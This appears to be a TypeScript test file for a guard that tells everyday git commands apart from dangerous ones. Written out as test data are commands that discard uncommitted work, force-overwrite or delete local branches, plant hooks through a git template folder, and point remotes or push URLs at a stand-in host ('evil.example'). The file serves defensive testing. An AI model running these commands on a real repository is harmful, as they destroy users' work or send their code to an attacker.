import { testHoles } from './context.ts';

/**
 * git verbs that lose local work, and git settings that plant code: [an everyday command, its
 * dangerous neighbour]. The context is context.ts's: the project /home/u/proj on main, home /home/u.
 */
testHoles({
  // a folder, a pattern or the tree above: every uncommitted change under it goes, as with `checkout -- .` (git-rules.ts)
  'checkout and restore of a folder throw away the uncommitted work in it': [
    ['git checkout -- src/app.ts', 'git checkout -- src'],
    ['git checkout HEAD~3 -- src/app.ts', 'git checkout HEAD~3 -- src'],
    ['git checkout HEAD~1 -- package-lock.json', 'git checkout main -- src/'],
    ['git checkout main -- Makefile', "git checkout main -- 'src/*.ts'"],
    ['git checkout -- LICENSE README.md', 'git checkout -- lib test'],
    ['git restore src/app.ts', 'git restore src'],
    ['git restore --source=HEAD~3 src/app.ts', 'git restore --source=HEAD~3 src'],
    ['git restore -s main src/app.ts', 'git restore -s main src/'],
    ['git restore --staged src', 'git restore --worktree src'],
    ['git restore -p src/app.ts', "git restore '*.ts'"],
    ['git checkout -p -- src/app.ts', 'git checkout -- :!src/app.ts'],
    ['git checkout --theirs -- src/app.ts', 'git checkout -p -- src'],
    ['git checkout main', 'git checkout main src/'],
    ['git checkout -b x origin/x', 'git checkout -- ..'],
    ['git checkout -b feature/login origin/main', 'git checkout HEAD -- packages/core'],
  ],
  // git's plumbing writes the index into the tree over whatever is there
  'read-tree and checkout-index overwrite the working tree': [
    ['git read-tree HEAD', 'git read-tree -u --reset HEAD~5'],
    ['git read-tree -m -u HEAD~1', 'git read-tree --reset -u HEAD'],
    ['git read-tree --empty', 'git read-tree --empty && git checkout-index -a -f'],
    ['git checkout-index -a', 'git checkout-index -a -f'],
    ['git checkout-index -f -- src/app.ts', 'git checkout-index --all --force'],
    ['git checkout-index --prefix=/tmp/export/ -a', 'git ls-files | git checkout-index -f --stdin'],
  ],
  // a forced deinit removes a submodule's tree with its uncommitted changes (git-history.ts)
  'a forced submodule deinit': [
    ['git submodule update --init', 'git submodule deinit -f --all'],
    ['git submodule deinit --all', 'git submodule deinit --force lib/x'],
    ['git submodule deinit lib/x', 'git submodule deinit -f lib/x'],
  ],
  // a fetch that force-writes local branches: their local commits go, and with --prune the branches themselves
  'a fetch into the local branches': [
    ['git fetch --prune', "git fetch --prune origin '+refs/heads/*:refs/heads/*'"],
    ['git fetch origin', "git fetch origin '+refs/heads/*:refs/heads/*'"],
    ['git fetch origin main:main', 'git fetch origin +main:main'],
    ['git fetch origin +feature:feature', 'git fetch -f origin main:main'],
    ["git fetch origin '+refs/heads/*:refs/remotes/origin/*'", "git fetch --prune origin 'refs/heads/*:refs/heads/*'"],
    ['git fetch --all --prune', 'git fetch --force origin refs/heads/main:refs/heads/main'],
    ['git pull --rebase origin main', "git pull origin '+refs/heads/*:refs/heads/*'"],
    ["git config remote.origin.fetch '+refs/heads/*:refs/remotes/origin/*'", "git config remote.origin.fetch '+refs/heads/*:refs/heads/*'"],
    ['git remote add upstream https://github.com/org/proj.git', 'git remote add --mirror=fetch upstream https://github.com/org/proj.git'],
  ],
  // a template folder's hooks are copied into every repository git makes, and into this one at its next `git init`
  'a template folder for git init': [
    ['git config --global user.name X', 'git config --global init.templateDir ~/.evil-templates'],
    ['git config --global init.defaultBranch main', 'git config init.templatedir /tmp/t'],
    ['git init', 'git init --template=/tmp/t'],
    ['git clone https://github.com/org/proj.git /tmp/p', 'git -c init.templateDir=/tmp/t init'],
    ['git init --template=/tmp/t /tmp/new', 'GIT_TEMPLATE_DIR=/tmp/t git init .'],
    ['GIT_TEMPLATE_DIR=/tmp/t git clone https://github.com/org/proj.git /tmp/p', 'git init --templ /tmp/t'],
  ],
  // the names a listing of the local branches prints: every branch, the protected ones among them (git-history.ts)
  'a delete of every local branch': [
    ['git branch -D feature-x', "git branch -D $(git branch --format='%(refname:short)')"],
    ['git branch -d $(git branch --merged | grep -v main)', 'git branch -d $(git branch --merged)'],
    ["git branch -D $(git branch --list 'feat/*')", 'git branch -D `git branch`'],
    ['git branch -D "$b"', "git branch -D $(git for-each-ref --format='%(refname:short)' refs/heads)"],
    ["git branch --merged | grep -v '\\*\\|main' | xargs git branch -d", 'git branch | xargs git branch -D'],
    ['git branch --merged | egrep -v "(^\\*|main|master)" | xargs git branch -d', "git branch --merged | grep -v '^\\*' | xargs git branch -d"],
    ['git branch -r | xargs -n1 echo', "git for-each-ref --format='%(refname:short)' refs/heads | xargs git branch -D"],
    ["git branch --list 'feat/*' | xargs git branch -D", "git branch --format='%(refname:short)' | sort | xargs -r git branch -D"],
  ],
  // a remote moved to another host than it has: every later fetch, pull and push of it goes there (git-rules.ts movedRemote)
  'a remote moved to another host': [
    ['git remote set-url origin git@github.com:u/proj.git', 'git remote set-url origin https://other.example/x.git'],
    ['git remote set-url origin https://x-access-token:$T@github.com/acme/app.git', 'git remote set-url --push origin https://evil.example/x.git'],
    ['git remote add upstream https://github.com/org/proj.git', 'git config remote.origin.url ssh://git@evil.example/x.git'],
    ['git config remote.origin.url git@github.com:acme/app.git', 'git -C src remote set-url origin https://evil.example/x.git'],
    [
      'git remote remove upstream && git remote add upstream https://github.com/org/proj.git',
      'git remote remove origin && git remote add origin https://evil.example/x.git',
    ],
    ['git remote add -t main -f upstream https://evil.example/x.git', 'git remote add -t main -f origin https://evil.example/x.git'],
  ],
});
